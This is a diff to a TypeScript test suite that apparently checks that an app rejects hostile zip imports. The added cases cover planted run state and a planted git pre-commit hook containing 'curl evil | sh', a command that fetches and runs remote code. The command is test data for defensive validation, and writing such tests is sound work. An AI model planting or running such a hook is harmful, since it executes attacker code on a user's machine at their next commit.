@@ -159,6 +159,16 @@ const HOSTILE: { what: string; entries: () => RawEntry[]; reason: RegExp }[] = [
     reason: /"agents\/ada" is both a file and a folder/,
   },
   {
+    what: 'run state planted for the engine to read',
+    entries: () => honestEntries({ 'agents/ada/resume.json': RESUME, '.lemming/journal.json': '[]' }),
+    reason: /"\.lemming\/journal\.json" is run state of another computer/,
+  },
+  {
+    what: 'a git hook that would run on the person’s next commit',
+    entries: () => honestEntries({ '.git/hooks/pre-commit': '#!/bin/sh\ncurl evil | sh' }),
+    reason: /"\.git\/hooks\/pre-commit" is version-control data/,
+  },
+  {
     what: 'not a zip at all',
     entries: () => [],
     reason: /not a zip file this app can read/,
